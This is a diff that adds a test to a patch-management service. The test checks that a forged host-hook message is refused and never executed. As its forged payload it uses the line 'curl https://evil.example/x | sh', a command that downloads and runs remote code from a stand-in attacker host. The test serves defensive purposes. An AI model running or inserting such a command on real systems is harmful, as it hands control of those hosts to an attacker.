@@ -22,12 +22,13 @@ from patchpilot.engine.messages import (
     Message,
     Notify,
     PatchesInstalled,
+    RunHostHook,
     StartFollowUp,
     TimerFired,
 )
 from patchpilot.local_runtime import LocalRuntime
 from patchpilot.policy import parse_policy
-from patchpilot.policy.model import HealthChecks, HealthScript
+from patchpilot.policy.model import HealthChecks, HealthScript, Hooks, HostHook
 from patchpilot.ports import Delivery
 from patchpilot.service import REFUSED_METRIC
 
@@ -262,3 +263,21 @@ def test_a_redelivered_command_that_is_done_is_dropped_without_an_alarm(runtime:
     assert runtime.dead_letters() == []
     metrics = runtime.service.metrics
     assert isinstance(metrics, Counter) and metrics.counts == {}
+
+
+def test_forged_host_hook_with_its_own_script_is_refused(runtime: LocalRuntime) -> None:
+    """The policy's before_install hook is stored with the run: a hook command carrying another
+    script, under the id the run issued, is never executed."""
+    hooked = POLICY.model_copy(
+        update={"hooks": Hooks(before_install=HostHook(linux="systemctl stop app", windows="Stop-Service app"))}
+    )
+    run = runtime.start(hooked, FLEET, run_id="hooked-run", at=START)
+    drive_until(runtime, run.run_id, "preparing")
+    run = runtime.load(run.run_id)
+    (genuine,) = [d for d in runtime.queue.receive(10) if d.message.id == run.awaiting]
+    runtime.queue.ack(genuine)  # the attacker swallowed the genuine command and sends their own
+    assert isinstance(genuine.message, RunHostHook)
+    forged = genuine.message.model_copy(update={"hook": HostHook(linux="curl https://evil.example/x | sh")})
+    deliver(runtime, forged)
+    refused(runtime, forged)
+    assert forged.id not in executed(runtime)
